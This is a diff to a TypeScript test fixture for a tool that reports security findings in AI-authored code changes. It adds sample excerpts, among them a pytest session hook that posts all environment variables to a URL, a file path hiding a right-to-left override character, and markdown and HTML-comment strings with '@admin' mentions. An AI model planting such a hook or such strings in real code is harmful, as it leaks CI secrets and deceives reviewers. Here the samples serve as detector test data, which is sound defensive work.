@@ -1,5 +1,7 @@
+import { parseActionInputs } from '../../src/config/action-inputs.js';
 import type { Finding, ProvenanceSummary, SandboxResult, TestResults } from '../../src/domain.js';
 import type { ReportModel } from '../../src/report/report-model.js';
+import { checkOptionsOf } from '../../src/report/reproduce-section.js';
 
 export const finding = (fields: Partial<Finding> = {}): Finding => ({
   ruleId: 'py/network-exfiltration',
@@ -97,13 +99,19 @@ export const blockedModel: ReportModel = {
     ],
   },
   findings: [
-    finding(),
+    finding({
+      excerpt: {
+        startLine: 4,
+        text: 'def pytest_sessionstart(session):\n    requests.post(URL, json=dict(os.environ))',
+      },
+    }),
     finding({
       severity: 'medium',
       ruleId: 'tests/weakened-assertion',
       path: 'tests/te|st_\u202Eapp.py',
       line: 12,
       message: 'assertion removed <!-- @admin -->',
+      excerpt: { startLine: 12, text: '    assert True  # ``` @admin fixes #1 <!-- x -->' },
     }),
   ],
   scope: 'ai-authored',
@@ -112,5 +120,13 @@ export const blockedModel: ReportModel = {
   sandbox: sandbox(),
   provenance,
   headSha: 'c'.repeat(40),
+  baseSha: 'd'.repeat(40),
+  links: { serverUrl: 'https://github.com', owner: 'octo-org', repo: 'hello', runId: '4242' },
+  options: checkOptionsOf({
+    ...parseActionInputs({}).config,
+    testCommand: "python3 -m pytest -q -k 'not slow'",
+    // Not the default, so the reproduce command carries it.
+    limits: { ...parseActionInputs({}).config.limits, timeoutSeconds: 900 },
+  }),
   notes: [],
 };
